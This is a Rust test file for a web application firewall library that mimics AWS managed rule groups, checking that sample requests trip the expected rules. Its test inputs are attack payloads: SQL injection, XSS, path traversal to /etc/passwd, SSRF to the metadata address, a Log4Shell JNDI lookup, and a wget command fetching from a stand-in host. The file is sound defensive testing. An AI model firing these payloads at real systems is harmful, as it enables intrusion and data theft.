//! What the groups are, and that an ACL can be made of them.

use palisade_managed::{Listener, catalog, groups, web_acl};
use palisade_waf::detect::Environment;
use palisade_waf::model::RuleAction;
use palisade_waf::{Acl, BodyInspection, Bump, Decision, Document, Moment, Request, Verdict};

fn environment() -> Environment {
    Environment {
        managed: Some(groups()),
        ..Environment::default().with_detectors()
    }
}

fn compiled(names: &[&str], listener: Listener) -> Acl {
    let managed = web_acl(names, listener).unwrap();
    Acl::compile(
        &managed.document,
        &environment(),
        BodyInspection::Bytes(1 << 17),
    )
    .unwrap()
}

fn decide(acl: &Acl, request: &Request<'_>) -> Decision {
    acl.inspect(request, &Moment::default(), &acl.counters(), &Bump::new())
}

const AGENT: (&[u8], &[u8]) = (b"User-Agent", b"test");

/// The rule of a group that blocks the request.
fn rule(acl: &Acl, request: &Request<'_>) -> Option<String> {
    let decision = decide(acl, request);
    let blocked = matches!(decision.verdict, Verdict::Block(_));
    let group = decision
        .groups
        .iter()
        .find_map(|group| group.terminating.clone());
    blocked.then(|| group.map_or(String::new(), |(rule, _)| rule.to_string()))
}

#[test]
fn groups_have_the_names_capacities_and_numbers_of_rules_aws_publishes() {
    let facts: Vec<_> = catalog()
        .iter()
        .map(|group| (group.name.as_str(), group.capacity, group.rules.len()))
        .collect();
    let aws = [
        ("AWSManagedRulesCommonRuleSet", 700, 22),
        ("AWSManagedRulesAdminProtectionRuleSet", 100, 1),
        ("AWSManagedRulesKnownBadInputsRuleSet", 200, 12),
        ("AWSManagedRulesSQLiRuleSet", 200, 8),
        ("AWSManagedRulesLinuxRuleSet", 200, 3),
        ("AWSManagedRulesUnixRuleSet", 100, 3),
        ("AWSManagedRulesWindowsRuleSet", 200, 8),
        ("AWSManagedRulesPHPRuleSet", 100, 4),
        ("AWSManagedRulesWordPressRuleSet", 100, 2),
    ];
    assert_eq!(facts[..aws.len()], aws);
    assert_eq!(facts[aws.len()..], [("InjectionRuleSet", 500, 23)]);
}

#[test]
fn every_rule_of_every_group_becomes_a_blocking_rule_with_its_label() {
    for facts in catalog() {
        let group = groups().find(&facts.vendor, &facts.name, None).unwrap();
        assert_eq!(group.rules.len(), facts.rules.len());
        for (made, said) in group.rules.iter().zip(&facts.rules) {
            assert_eq!(
                (&made.name, &made.labels),
                (&said.name, &vec![said.label.clone()])
            );
            assert!(matches!(&made.action, RuleAction::Own(action) if action.name() == "BLOCK"));
        }
    }
}

#[test]
fn unknown_groups_and_versions_are_not_there() {
    let there = groups();
    let name = "AWSManagedRulesSQLiRuleSet";
    assert!(there.find("AWS", name, Some("Version_2.0")).is_some());
    assert!(there.find("AWS", name, Some("Version_9.9")).is_none());
    assert!(there.find("Palisade", name, None).is_none());
    assert!(
        there
            .find("AWS", "AWSManagedRulesBotControlRuleSet", None)
            .is_none()
    );
    assert!(web_acl(&["common", "nothing"], Listener::default()).is_err());
}

#[test]
fn common_brings_the_own_group_and_it_comes_last() {
    let managed = web_acl(&["common", "sqli"], Listener::default()).unwrap();
    let acl = managed.document.web_acl.unwrap();
    let names: Vec<_> = acl.rules.iter().map(|rule| rule.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "AWS-AWSManagedRulesCommonRuleSet",
            "AWS-AWSManagedRulesSQLiRuleSet",
            "Palisade-InjectionRuleSet"
        ]
    );
}

#[test]
fn rules_look_at_the_fields_their_names_say() {
    let all: Vec<&str> = catalog().iter().map(|group| group.short.as_str()).collect();
    let acl = compiled(&all, Listener::default());
    let asked = |method: &str, uri: &str, headers: &[(&[u8], &[u8])], body: &[u8]| {
        rule(
            &acl,
            &Request {
                headers,
                body,
                ..Request::new(method, uri)
            },
        )
    };
    let get = |uri: &str| asked("GET", uri, &[AGENT], b"");
    let post = |body: &[u8]| asked("POST", "/", &[AGENT], body);
    assert_eq!(get("/?q=a"), None);
    assert_eq!(
        asked("GET", "/", &[], b"").as_deref(),
        Some("NoUserAgent_HEADER")
    );
    assert_eq!(
        asked("GET", "/", &[(b"user-agent", b"sqlmap/1.7")], b"").as_deref(),
        Some("UserAgent_BadBots_HEADER")
    );
    assert_eq!(
        get(&format!("/?q={}", "a".repeat(2048))).as_deref(),
        Some("SizeRestrictions_QUERYSTRING")
    );
    assert_eq!(
        get(&format!("/{}", "a".repeat(1024))).as_deref(),
        Some("SizeRestrictions_URIPATH")
    );
    assert_eq!(
        post(&b"a".repeat(8193)).as_deref(),
        Some("SizeRestrictions_BODY")
    );
    assert_eq!(post(&b"a".repeat(8192)), None);
    assert_eq!(
        get("/?u=http://169.254.169.254/latest").as_deref(),
        Some("EC2MetaDataSSRF_QUERYARGUMENTS")
    );
    assert_eq!(
        get("/?f=../../etc/passwd").as_deref(),
        Some("GenericLFI_QUERYARGUMENTS")
    );
    assert_eq!(
        get("/backup/site.sql").as_deref(),
        Some("RestrictedExtensions_URIPATH")
    );
    assert_eq!(
        post(b"a=<script>f()</script>").as_deref(),
        Some("CrossSiteScripting_BODY")
    );
    assert_eq!(
        asked(
            "GET",
            "/",
            &[AGENT, (b"cookie", b"a=<svg/onload=f(1)>")],
            b""
        )
        .as_deref(),
        Some("CrossSiteScripting_COOKIE")
    );
    assert_eq!(
        get("/phpMyAdmin/index").as_deref(),
        Some("AdminProtection_URIPATH")
    );
    assert_eq!(
        asked("PROPFIND", "/", &[AGENT], b"").as_deref(),
        Some("PROPFIND_METHOD")
    );
    assert_eq!(
        asked("GET", "/", &[AGENT, (b"host", b"localhost:8080")], b"").as_deref(),
        Some("Host_localhost_HEADER")
    );
    assert_eq!(
        asked(
            "GET",
            "/",
            &[AGENT, (b"x-api", b"${jndi:ldap://a.example/x}")],
            b""
        )
        .as_deref(),
        Some("Log4JRCE_HEADER")
    );
    assert_eq!(
        get("/item?id=1%27%20OR%20%271%27=%271").as_deref(),
        Some("SQLi_QUERYARGUMENTS")
    );
    assert_eq!(
        get("/item?id=MScgb3IgJzEnPScx").as_deref(),
        Some("SQLiExtendedPatterns_QUERYARGUMENTS")
    );
    assert_eq!(
        get("/?c=;+wget+http://a.example/p").as_deref(),
        Some("UNIXShellCommandsVariables_QUERYSTRING")
    );
    assert_eq!(
        get("/?c=%26+ipconfig+/all").as_deref(),
        Some("WindowsShellCommands_QUERYARGUMENTS")
    );
    assert_eq!(
        get("/?c=php://filter/resource=index").as_deref(),
        Some("PHPHighRiskMethodsVariables_QUERYSTRING")
    );
    assert_eq!(
        get("/xmlrpc.php").as_deref(),
        Some("WordPressExploitablePaths_URIPATH")
    );
    assert_eq!(get("/?t={{7*7}}").as_deref(), Some("TemplateInjection"));
    assert_eq!(
        asked("GET", "/", &[AGENT, (b"x-a", b"<script>f()</script>")], b"").as_deref(),
        Some("CrossSiteScripting")
    );
}

#[test]
fn two_rules_only_count_where_they_mean_nothing() {
    let listener = Listener {
        loopback: true,
        whole_body: true,
    };
    let managed = web_acl(&["common", "knownbadinputs"], listener).unwrap();
    assert_eq!(managed.notices.len(), 2, "{:?}", managed.notices);
    let acl = compiled(&["common", "knownbadinputs"], listener);
    let headers = [AGENT, (b"host".as_slice(), b"localhost".as_slice())];
    let body = b"a".repeat(9000);
    let request = Request {
        headers: &headers,
        body: &body,
        ..Request::new("POST", "/")
    };
    let decision = decide(&acl, &request);
    assert!(decision.verdict.passes());
    assert!(
        decision
            .labels
            .iter()
            .any(|label| label.ends_with(":SizeRestrictions_Body"))
    );
    assert!(
        decision
            .labels
            .iter()
            .any(|label| label.ends_with(":Host_Localhost_Header"))
    );
}

#[test]
fn a_web_acl_refers_to_groups_by_vendor_and_name_and_overrides_their_rules() {
    let document = Document::parse(
        br#"{"Name": "a", "DefaultAction": {"Allow": {}},
        "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": "a"},
        "Rules": [{"Name": "sql", "Priority": 0, "OverrideAction": {"None": {}},
            "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": "a"},
            "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesSQLiRuleSet",
                "RuleActionOverrides": [{"Name": "SQLi_QUERYARGUMENTS", "ActionToUse": {"Count": {}}}]}}}]}"#,
    )
    .unwrap();
    let acl = Acl::compile(&document, &environment(), BodyInspection::Bytes(8192)).unwrap();
    assert_eq!(acl.capacity(), 200);
    let decision = decide(&acl, &Request::new("GET", "/?id=1'+or+'1'='1"));
    assert!(decision.verdict.passes());
    assert_eq!(
        decision.labels,
        ["awswaf:managed:aws:sql-database:SQLi_QueryArguments"]
    );
    assert!(
        !decide(&acl, &Request::new("GET", "/1'+or+'1'='1"))
            .verdict
            .passes()
    );
}
